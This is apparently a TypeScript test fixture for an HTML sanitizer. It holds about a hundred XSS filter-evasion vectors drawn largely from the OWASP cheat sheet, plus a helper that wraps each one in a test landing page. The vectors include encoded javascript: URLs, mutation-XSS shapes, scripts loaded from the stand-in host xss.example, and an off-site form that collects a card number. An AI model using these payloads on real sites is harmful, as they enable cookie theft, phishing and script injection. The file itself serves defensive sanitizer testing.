// Test fixture: cross-site scripting vectors from the OWASP "XSS Filter Evasion Cheat Sheet", one per technique
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), plus the landing-specific
// escapes the issue names (off-site forms, <base>, meta refresh, non-image data: URLs) and a few mutation-XSS
// shapes known to fool sanitizers. Used by the sanitizer's unit test and by the browser test, which loads every
// sanitized vector in Chromium and checks nothing runs and nothing is requested.
export interface XssVector {
  name: string;
  html: string;
}

export const XSS_VECTORS: readonly XssVector[] = [
  { name: 'basic script', html: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { name: 'inline script', html: '<script>alert("XSS")</script>' },
  { name: 'img javascript: src', html: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { name: 'img no quotes no semicolon', html: "<IMG SRC=javascript:alert('XSS')>" },
  { name: 'case insensitive', html: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'html entities', html: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { name: 'grave accents', html: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'malformed a tag', html: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'malformed a tag no quotes', html: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { name: 'malformed img tag', html: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: 'fromCharCode', html: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { name: 'default src onerror', html: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'empty src onmouseover', html: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { name: 'no src onmouseover', html: '<IMG onmouseover="alert(\'xxs\')">' },
  { name: 'onerror alert', html: '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  {
    name: 'img onerror encoded',
    html: '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  },
  {
    name: 'decimal entities',
    html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">enlace</a>',
  },
  {
    name: 'decimal entities no semicolons',
    html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">enlace</a>',
  },
  {
    name: 'hex entities no semicolons',
    html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">enlace</a>',
  },
  { name: 'embedded tab', html: '<a href="jav\tascript:alert(\'XSS\');">enlace</a>' },
  { name: 'embedded encoded tab', html: '<a href="jav&#x09;ascript:alert(\'XSS\');">enlace</a>' },
  { name: 'embedded newline', html: '<a href="jav&#x0A;ascript:alert(\'XSS\');">enlace</a>' },
  { name: 'embedded carriage return', html: '<a href="jav&#x0D;ascript:alert(\'XSS\');">enlace</a>' },
  { name: 'null breaks up javascript', html: '<a href="java\0script:alert(\'XSS\')">enlace</a>' },
  { name: 'spaces and meta chars before javascript', html: '<a href=" &#14;  javascript:alert(\'XSS\');">enlace</a>' },
  { name: 'non-alpha non-digit', html: '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'body onload non-alpha', html: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'extraneous open brackets', html: '<<SCRIPT>alert("XSS");//\\<</SCRIPT>' },
  { name: 'no closing script tag', html: '<SCRIPT SRC=https://xss.example/xss.js?< B >' },
  { name: 'protocol resolution in script', html: '<SCRIPT SRC=//xss.example/.j>' },
  { name: 'half open html/javascript', html: '<IMG SRC="`<javascript:alert>`(\'XSS\')"' },
  { name: 'double open angle brackets', html: '<iframe src=https://xss.example/scriptlet.html <' },
  { name: 'end title tag', html: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'input image', html: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: 'body image', html: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'img dynsrc', html: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { name: 'img lowsrc', html: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  {
    name: 'list-style-image',
    html: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'vbscript in image', html: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'svg object tag', html: "<svg/onload=alert('XSS')>" },
  { name: 'body tag onload', html: "<BODY ONLOAD=alert('XSS')>" },
  { name: 'bgsound', html: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { name: 'ampersand javascript includes', html: '<BR SIZE="&{alert(\'XSS\')}">' },
  { name: 'style sheet link', html: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: 'remote style sheet', html: '<LINK REL="stylesheet" HREF="https://xss.example/xss.css">' },
  { name: 'remote style sheet import', html: "<STYLE>@import'https://xss.example/xss.css';</STYLE>" },
  {
    name: 'meta link header',
    html: '<META HTTP-EQUIV="Link" Content="<https://xss.example/xss.css>; REL=stylesheet">',
  },
  { name: 'style tag broken up javascript', html: '<STYLE>@im\\port\'\\ja\\vasc\\ript:alert("XSS")\';</STYLE>' },
  { name: 'style attribute broken up expression', html: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  {
    name: 'img style with expression',
    html: 'exp/*<A STYLE=\'no\\xss:noxss("*//*");xss:ex/*XSS*//*/*/pression(alert("XSS"))\'>',
  },
  {
    name: 'style tag background-image',
    html: '<STYLE>.XSS{background-image:url("javascript:alert(\'XSS\')");}</STYLE><A CLASS=XSS></A>',
  },
  {
    name: 'style tag background',
    html: '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
  },
  { name: 'anonymous html with style', html: '<XSS STYLE="xss:expression(alert(\'XSS\'))">' },
  { name: 'local htc file', html: '<XSS STYLE="behavior: url(xss.htc);">' },
  { name: 'meta refresh', html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  {
    name: 'meta refresh data url',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  {
    name: 'meta refresh extra url',
    html: '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://;URL=javascript:alert(\'XSS\');">',
  },
  { name: 'iframe', html: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { name: 'iframe event based', html: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: 'frame', html: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  { name: 'table background', html: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'td background', html: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'div background-image', html: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  {
    name: 'div background-image unicode',
    html: '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  },
  { name: 'div expression', html: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { name: 'base tag', html: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { name: 'base tag off-site', html: '<base href="https://xss.example/">' },
  { name: 'object tag', html: '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>' },
  {
    name: 'embed svg',
    html: '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  {
    name: 'xml data island',
    html: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML><SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
  },
  { name: 'script in a comment-like construct', html: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  {
    name: 'ssi',
    html: '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT SRC=https://xss.example/xss.js></SCRIPT>\'"-->',
  },
  { name: 'xss using html quote encapsulation', html: '<SCRIPT a=">" SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'quote encapsulation 2', html: '<SCRIPT ="blah" SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'quote encapsulation 3', html: '<SCRIPT a=`>` SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'url string evasion', html: '<A HREF="//www.google.com/">XSS</A>' },
  { name: 'data url html', html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">enlace</a>' },
  { name: 'data url svg image', html: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="x">' },
  {
    name: 'off-site form',
    html: '<form action="https://xss.example/robar" method="post"><input name="tarjeta"><button>Pagar</button></form>',
  },
  { name: 'formaction button', html: '<button formaction="javascript:alert(1)">Enviar</button>' },
  { name: 'details ontoggle', html: '<details open ontoggle=alert(1)><summary>x</summary></details>' },
  { name: 'marquee onstart', html: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio src onerror', html: '<audio src=x onerror=alert(1)>' },
  {
    name: 'svg animate href',
    html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
  },
  {
    name: 'math href',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  { name: 'noscript mutation', html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'template mutation', html: '<template><img src=x onerror=alert(1)></template>' },
  { name: 'textarea breakout', html: '<textarea></textarea><img src=x onerror=alert(1)>' },
  { name: 'title breakout', html: '<title></title><img src=x onerror=alert(1)>' },
  { name: 'style breakout', html: '<style></style><img src=x onerror=alert(1)>' },
  { name: 'style closing inside css', html: '<style>p{color:red}</style><script>alert(1)</script><style>a{}</style>' },
  { name: 'srcdoc iframe', html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  {
    name: 'a target and ping',
    html: '<a href="https://ok.example" ping="https://xss.example/track" target="_blank">ok</a>',
  },
  {
    name: 'picture source srcset',
    html: '<picture><source srcset="https://xss.example/a.png"><img src="data:image/png;base64,iVBORw0KGgo=" alt="a"></picture>',
  },
  {
    name: 'img srcset external',
    html: '<img src="data:image/png;base64,iVBORw0KGgo=" srcset="https://xss.example/b.png 2x" alt="b">',
  },
  { name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
  { name: 'isindex action', html: '<isindex type=image src=1 onerror=alert(1)>' },
  { name: 'portal', html: '<portal src="https://xss.example/"></portal>' },
  { name: 'meta charset utf-7', html: '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'style attribute on allowed tag', html: '<p style="background:url(https://xss.example/t.png)">x</p>' },
  { name: 'css escape hiding url', html: '<style>p{background:\\75rl(https://xss.example/t.png)}</style>' },
  { name: 'vbscript link', html: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: 'livescript link', html: '<a href="livescript:alert(1)">x</a>' },
  { name: 'html entity colon', html: '<a href="javascript&colon;alert(1)">x</a>' },
];

/** A landing that passes every check, with `inject` placed in its body (and `head` in its head). */
export function pageWith(inject: string, head = ''): string {
  return (
    `<!DOCTYPE html><html lang="es"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Prueba</title>` +
    `<meta name="description" content="Una página de prueba."><meta property="og:type" content="website"><meta property="og:title" content="Prueba">` +
    `<meta property="og:description" content="Una página de prueba.">${head}<style>body{margin:0}</style></head><body><main><h1>Prueba</h1>${inject}</main></body></html>`
  );
}
